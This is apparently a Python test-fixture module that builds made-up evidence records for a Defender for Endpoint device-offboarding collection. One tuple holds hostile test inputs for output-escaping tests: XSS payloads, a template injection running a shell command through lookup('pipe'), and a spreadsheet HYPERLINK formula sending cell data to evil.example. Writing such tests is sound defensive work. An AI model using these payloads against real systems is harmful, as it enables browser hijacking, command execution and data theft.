# Copyright: secops.mde contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Made-up evidence documents, for tests and for the screenshot in the README."""

from __future__ import annotations

import hashlib
import typing as t
import uuid

Record = dict[str, t.Any]

CLIENT = "7e9d3c54-1b2a-4c3d-8e4f-001122334455"
COMMENT = "CHG-1042 retired with the Harbour Street office"


def device_id(name: str) -> str:
    return hashlib.sha1(name.encode("utf-8", "surrogatepass"), usedforsecurity=False).hexdigest()


def guid(name: str) -> str:
    return str(uuid.uuid5(uuid.NAMESPACE_DNS, name.encode("utf-8", "surrogatepass").hex()))


def machine_action(name: str, status: str, at: str, ended: str | None = None, **fields: t.Any) -> Record:
    return {
        "id": guid(f"action {name}"),
        "type": "Offboard",
        "status": status,
        "machineId": device_id(name),
        "computerDnsName": name,
        "requestor": CLIENT,
        "requestorComment": COMMENT,
        "creationDateTimeUtc": f"2026-02-03T{at}.1234567Z",
        "lastUpdateDateTimeUtc": f"{ended if ended and 'T' in ended else f'2026-02-03T{ended or at}'}.7654321Z",
        **fields,
    }


def device(
    name: str, outcome: str, action: Record | None = None, error: Record | None = None, **fields: t.Any
) -> Record:
    found = outcome not in ("not_found", "ambiguous", "mismatch")
    return {
        "requested": {"device_id": None, "device_name": name, "aad_device_id": None, "comment": None},
        "host": None,
        "device_id": device_id(name) if found else None,
        "device_name": name if found else None,
        "outcome": outcome,
        "external_id": f"{guid(f'request {name}')} CHG-1042" if outcome == "submitted" else None,
        "changed": outcome == "submitted",
        "failed": error is not None,
        "action": action,
        "machine": {"id": device_id(name), "computerDnsName": name, "aadDeviceId": guid(name)} if found else None,
        "candidates": [],
        "error": error,
        "tag": None,
        **fields,
    }


def failure(code: str, message: str, hint: str, status: int | None = None, correlation: str | None = None) -> Record:
    return {"code": code, "message": message, "http_status": status, "correlation_id": correlation, "hint": hint}


def evidence(devices: list[Record], kind: str = "offboard", **fields: t.Any) -> Record:
    return {
        "format": "secops.mde/evidence-1",
        "kind": kind,
        "prediction": False,
        "complete": True,
        "run": {
            "started_at": "2026-02-03T04:05:06Z",
            "updated_at": "2026-02-03T04:21:40Z",
            "operator": "j.doe",
            "job_id": "4711",
            "job_url": "https://awx.corp.example/#/jobs/playbook/4711",
            "playbook": f"secops.mde.{kind}",
        },
        "comment": COMMENT,
        "device_count": len(devices),
        "context": {
            "tenant_id": "0a1b2c3d-4e5f-4a6b-8c7d-001122334455",
            "client_id": CLIENT,
            "api_url": "https://api.security.microsoft.com",
            "collection_version": "1.0.0",
        },
        "api": {"calls": 1, "retries": 0, "throttled_seconds": 0},
        "devices": devices,
        **fields,
    }


def candidate(name: str, number: int, last_seen: str) -> Record:
    return {
        "device_id": device_id(f"{name} {number}"),
        "device_name": name,
        "aad_device_id": guid(f"{name} {number}"),
        "last_seen": last_seen,
        "health_status": "Active" if number == 1 else "Inactive",
        "onboarding_status": "Onboarded",
    }


REFUSED = failure(
    "refused",
    "The service refused the request: Action is not supported on this OS platform.",
    "The API documents offboarding for Windows only. Use the offboarding package for this platform.",
    400,
    guid("correlation"),
)


def small_office() -> Record:
    """Evidence of the devices of a closed office, with many different outcomes."""
    same_name, typo = "pc-0301.corp.example", "srv-file1.corp.exmaple"
    devices = [
        device(
            f"pc-{n:04}.corp.example",
            "submitted",
            machine_action(f"pc-{n:04}", "Succeeded", f"04:06:{n % 60:02}", "04:14:02"),
        )
        for n in range(101, 112)
    ]
    devices += [
        device(
            same_name,
            "ambiguous",
            error=failure(
                "ambiguous",
                f"{same_name} matches 2 devices.",
                "Nothing was sent for this device. Compare the candidates and set device_id.",
            ),
            candidates=[
                candidate(same_name, 1, "2026-02-02T21:10:00Z"),
                candidate(same_name, 2, "2025-11-17T08:00:00Z"),
            ],
        ),
        device("kiosk-01.corp.example", "submitted", machine_action("kiosk-01", "Pending", "04:06:31")),
        device(
            "kiosk-02.corp.example", "submitted", machine_action("kiosk-02", "Pending", "04:06:31"), host="kiosk-02"
        ),
        device("mac-07.corp.example", "refused", error=REFUSED),
        device(
            typo,
            "not_found",
            error=failure(
                "not_found",
                f"No device with the name {typo} was found.",
                "Check the spelling and the tenant. A candidate has a similar name.",
            ),
            candidates=[candidate("srv-file1.corp.example", 1, "2026-02-03T02:40:00Z")],
        ),
        device(
            "lab-w11-07.corp.example",
            "already_offboarded",
            machine_action("lab-w11-07", "Succeeded", "01:10:00", "01:31:12"),
        ),
        device(
            "lab-w11-08.corp.example",
            "in_progress",
            machine_action(
                "lab-w11-08", "Pending", "01:10:02", requestor="m.roe@corp.example", requestorComment="CHG-1040 lab"
            ),
        ),
        device("srv-print2.corp.example", "not_onboarded"),
    ]
    return evidence(devices, api={"calls": 31, "retries": 1, "throttled_seconds": 0})


def verification() -> Record:
    """Evidence of the verification of seven devices with seven outcomes, days later."""
    ended = {
        "done": "Succeeded", "came_back": "Succeeded", "pending": "Pending", "failed": "Failed", "timed_out": "TimeOut",
        "cancelled": "Cancelled",
    }  # fmt: skip
    devices = [
        device(
            f"{outcome}.corp.example",
            outcome,
            machine_action(outcome, status, "04:06:07", "2026-02-06T04:06:09"),
            failed=outcome in ("came_back", "failed", "timed_out", "cancelled"),
        )
        for outcome, status in ended.items()
    ]
    return evidence([*devices, device("no-action.corp.example", "no_action")], kind="verify")


def many_devices(count: int) -> Record:
    """Evidence of many devices: one in seven failed, the others are in progress."""
    return evidence(
        [
            device(name, "refused", error=REFUSED)
            if n % 7 == 0
            else device(name, "submitted", machine_action(name, "Pending", "04:06:07"), host=f"pc-{n:05}")
            for n in range(1, count + 1)
            for name in [f"pc-{n:05}.corp.example"]
        ]
    )


MALICIOUS = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style></title><img src=x onerror=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    '=HYPERLINK("https://evil.example/?"&A1;"open")',
    "{{ lookup('pipe', 'id') }}",
    "{% raw %}{#",
    "&lt;b&gt; &amp;amp;",
    'comma, "quote"; and\r\na second line',
    "pc\u202efdp.exe",
    "zero\u200bwidth\ufeff",
    "nul\x00 bell\x07 half\ud800",
    "日本 Ünïcödé שלום",
    "]]><!--",
    "javascript:alert(1)",
)


def malicious() -> Record:
    """Evidence in which every value from outside is malicious."""
    devices = []
    for text in MALICIOUS:
        bad = dict.fromkeys(("code", "message", "http_status", "correlation_id", "hint"), text)
        action = dict.fromkeys(machine_action("x", "y", "00:00:00"), text)
        machine = {"id": text, "computerDnsName": text, "aadDeviceId": text}
        devices.append(
            device(
                text,
                "error",
                action,
                bad,
                requested=dict.fromkeys(("device_id", "device_name", "aad_device_id", "comment"), f"{text} requested"),
                device_id=text,
                host=f"{text} host",
                machine=machine,
                candidates=[dict.fromkeys(candidate("x", 1, "y"), text)],
                tag={"tag": text, "ok": False, "message": text},
            )
        )
        devices.append(device(text, text))
    everything = "".join(MALICIOUS)
    found = evidence(devices, comment=everything)
    return found | {
        "run": dict.fromkeys(found["run"], everything) | {"job_url": "javascript:alert(1)"},
        "context": dict.fromkeys(found["context"], everything),
    }
